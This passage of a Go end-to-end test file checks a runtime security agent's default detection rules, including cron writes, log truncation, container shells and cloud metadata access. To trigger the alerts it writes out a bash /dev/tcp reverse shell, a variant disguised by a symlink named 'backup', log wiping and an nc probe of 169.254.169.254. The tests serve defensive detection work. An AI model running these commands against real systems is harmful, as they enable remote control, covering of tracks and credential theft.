			benign: func(t *testing.T) []alert {
				return catFile(t, filepath.Join(env.home, ".ssh", "authorized_keys"))
			}},
		{rule: "Write to Cron Configuration", priority: "Notice",
			trigger: func(t *testing.T) []alert {
				if _, err := os.Stat("/etc/cron.d"); os.IsNotExist(err) {
					removeAfter(t, "/etc/cron.d")
					if err := os.Mkdir("/etc/cron.d", 0o755); err != nil {
						t.Fatal(err)
					}
				}
				path := removeAfter(t, "/etc/cron.d/vigil-e2e-"+env.token)
				runCommand(t, "touch", path)
				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path, "proc.name": "touch"}}}
			},
			benign: func(t *testing.T) []alert { return catFile(t, "/etc/cron.d/vigil-e2e-"+env.token) }},
		{rule: "Truncate Log File", priority: "Warning",
			trigger: func(t *testing.T) []alert {
				path := removeAfter(t, "/var/log/vigil-e2e-"+env.token+".log")
				// Created by appending, which the rule allows.
				f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o640)
				if err != nil {
					t.Fatal(err)
				}
				f.WriteString("Accepted publickey for root\n")
				f.Close()
				runCommand(t, "sh", "-c", ": > "+path)
				runCommand(t, "truncate", "-s", "0", path)
				return []alert{
					{key: []string{"fd.name", "proc.name"}, want: fields{"fd.name": path, "proc.name": "sh", "evt.arg.flags": contains("O_TRUNC")}},
					{key: []string{"fd.name", "proc.name"}, want: fields{"fd.name": path, "proc.name": "truncate"}},
				}
			},
			benign: func(t *testing.T) []alert {
				path := "/var/log/vigil-e2e-" + env.token + ".log"
				runOK(t, nil, "sh", "-c", "echo more >> "+path)
				return []alert{{key: []string{"fd.name", "proc.name"}, want: fields{"fd.name": path, "proc.name": "sh"}}}
			}},
		{rule: "Write Below Etc", priority: "Error",
			trigger: func(t *testing.T) []alert {
				path := removeAfter(t, "/etc/vigil-e2e-"+env.token)
				runCommand(t, "touch", path)
				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path, "proc.name": "touch", "user.uid": 0}}}
			},
			benign: func(t *testing.T) []alert { return catFile(t, "/etc/hostname") }},
		{rule: "Outbound Connection by Non-Network Program", priority: "Critical",
			trigger: func(t *testing.T) []alert {
				// A bash reverse shell through /dev/tcp; the handler tells
				// it to exit.
				host, port, _ := net.SplitHostPort(env.shellAddr)
				runOK(t, nil, "ip", "netns", "exec", env.netns, "bash", "-c",
					"exec bash -i &>/dev/tcp/"+host+"/"+port+" 0>&1")
				waitConn(t, env.shellConn, "bash reverse shell")
				// A link to bash named backup connecting itself: the
				// kernel resolves it to bash.
				backup := filepath.Join(env.bin, "backup")
				if err := os.Symlink("/bin/bash", backup); err != nil && !errors.Is(err, os.ErrExist) {
					t.Fatal(err)
				}
				runOK(t, nil, "ip", "netns", "exec", env.netns, backup, "-c", "exec 3<>/dev/tcp/"+host+"/"+port)
				waitConn(t, env.shellConn, "renamed bash reverse shell")
				return []alert{
					{key: []string{"proc.name", "fd.name"}, want: fields{
						"proc.name": "bash", "fd.name": contains("->" + env.shellAddr), "container.id": "host",
					}},
					{key: []string{"proc.name", "fd.name"}, want: fields{"proc.name": "backup", "fd.name": contains("->" + env.shellAddr)}},
				}
			},
			benign: func(t *testing.T) []alert {
				// A shell talking to a local service (a health check), and a
				// network client talking to the same remote address.
				port := fmt.Sprint(env.lo.Addr().(*net.TCPAddr).Port)
				drain(env.loConn)
				runOK(t, nil, "bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/"+port)
				waitConn(t, env.loConn, "bash to loopback")
				host, sport, _ := net.SplitHostPort(env.svcAddr)
				runOK(t, nil, "ip", "netns", "exec", env.netns, filepath.Join(env.bin, "nc"), "-w", "2", host, sport)
				waitConn(t, env.svcConn, "nc to the service")
				return []alert{
					{key: []string{"fd.name"}, want: fields{"fd.name": contains("->127.0.0.1:" + port)}},
					{key: []string{"fd.name"}, want: fields{"fd.name": contains("->" + env.svcAddr)}},
				}
			}},
		iouringRuleTest(env),
	}
}

// containerName is the name the container tests give their container
// (Kubernetes' container-name label, which vigil shows as container.name).
const containerName = "vigil-e2e-web"

func TestDefaultRulesContainer(t *testing.T) {
	testutil.RequireRoot(t)
	for _, c := range []string{"containerd", "ctr", "containerd-shim-runc-v2", "runc", "busybox", "dpkg", "sh"} {
		testutil.RequireCommand(t, c)
	}
	d := startContainerd(t)
	a := startAgent(t, append(defaultRulesArgs(t), "--containerd-socket", d.Socket)...)
	c := d.MustRun(t, containerdtest.ContainerSpec{Labels: map[string]string{enrich.LabelContainerName: containerName}})
	waitContainerKnown(t, a, c)
	runRuleTests(t, a, containerRuleTests(c))

	// runc re-executes itself from a memfd to start and exec into
	// containers: that is not fileless malware.
	for _, r := range a.Alerts() {
		if r.Rule == "Fileless Execution via memfd" && r.Source == "syscall" {
			t.Errorf("runc's memfd re-exec alerted: %s", r.Output)
		}
	}
}

// waitContainerKnown runs the marker in c until an alert about it carries
// the container's name: enrichment answers asynchronously, and the tests
// assert on metadata.
func waitContainerKnown(t *testing.T, a *agenttest.Agent, c *containerdtest.Container) {
	t.Helper()
	waitContainerNamed(t, a, c, containerName)
}

// waitContainerNamed is waitContainerKnown for a container named name.
func waitContainerNamed(t *testing.T, a *agenttest.Agent, c *containerdtest.Container, name string) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		out, err := c.Exec(ctx, "true", markerToken)
		cancel()
		if err != nil {
			t.Fatalf("running the marker in the container: %v: %s", err, out)
		}
		for {
			r, ok := a.Next(t, deadline)
			if !ok {
				t.Fatalf("no marker alert with the container's name in 20s; stderr:\n%s", a.StderrTail(3000))
			}
			if r.Rule != markerRule || r.OutputFields["container.id"] != c.ID[:12] {
				continue
			}
			if r.OutputFields["container.name"] == name {
				return
			}
			break
		}
	}
}

// containerRuleTests are the rules about containers, run in c. Their
// alerts must name the container and its image.
func containerRuleTests(c *containerdtest.Container) []ruleTest {
	exec := containerExec(c, false)
	inContainer := func(f fields) fields {
		f["container.id"] = c.ID[:12]
		f["container.name"] = containerName
		f["container.image.repository"] = "docker.io/vigil/busybox"
		return f
	}
	key := []string{"container.id", "proc.cmdline"}
	return []ruleTest{
		{rule: "Shell Spawned in Container", priority: "Notice",
			trigger: func(t *testing.T) []alert {
				arg := "shell-" + randToken()
				exec(t, "sh", "-c", "echo "+arg)
				return []alert{{key: key, want: inContainer(fields{
					"proc.cmdline": "sh -c echo " + arg, "proc.name": "sh", "user.name": "root", "user.uid": 0,
				})}}
			},
			benign: func(t *testing.T) []alert {
				// A program that is not a shell in the container, and a
				// shell on the host.
				arg := "benign-" + randToken()
				exec(t, "echo", arg)
				runOK(t, nil, "sh", "-c", "echo "+arg)
				return []alert{
					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "echo " + arg}},
					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "sh -c echo " + arg}},
				}
			}},
		{rule: "Package Manager Run in Container", priority: "Error",
			trigger: func(t *testing.T) []alert {
				arg := "pkg-" + randToken()
				exec(t, "dpkg", "-l", arg)
				return []alert{{key: key, want: inContainer(fields{"proc.cmdline": "dpkg -l " + arg})}}
			},
			benign: func(t *testing.T) []alert {
				// The host's package manager.
				runOK(t, nil, "dpkg", "--version")
				return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "dpkg --version"}}}
			}},
		{rule: "Container Contacts Cloud Metadata Service", priority: "Warning",
			trigger: func(t *testing.T) []alert {
				// The container has no route out: the connect fails at once
				// (ENETUNREACH), and the attempt is what the rule reports.
				// (busybox's wget crashes in this build: nc does the connect.)
				exec(t, "nc", "-w", "2", "169.254.169.254", "80")
				return []alert{{key: key, want: inContainer(fields{
					"proc.cmdline": "nc -w 2 169.254.169.254 80", "proc.name": "nc",
					"fd.name": contains("->169.254.169.254:80"),
				})}}
			},
			benign: func(t *testing.T) []alert {
				exec(t, "nc", "-w", "2", "127.0.0.1", "1")
				return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "nc -w 2 127.0.0.1 1"}}}
			}},
	}
}

// TestDefaultRulesAllTested checks that the end-to-end tables cover every
// default rule.
func TestDefaultRulesAllTested(t *testing.T) {
	rs, _, err := rules.Load([]rules.Source{rules.Default()}, rules.Options{})
	if err != nil {
		t.Fatal(err)
	}
	tested := map[string]bool{}
	for _, tt := range append(hostRuleTests(&hostEnv{}), containerRuleTests(&containerdtest.Container{ID: "000000000000"})...) {
		if rs.Rule(tt.rule) == nil {
			t.Errorf("tested rule %q is not a default rule", tt.rule)
		}
		tested[tt.rule] = true
	}
	for _, r := range rs.Rules() {
		if !tested[r.Name] {
			t.Errorf("default rule %q has no end-to-end test", r.Name)
		}
	}
}
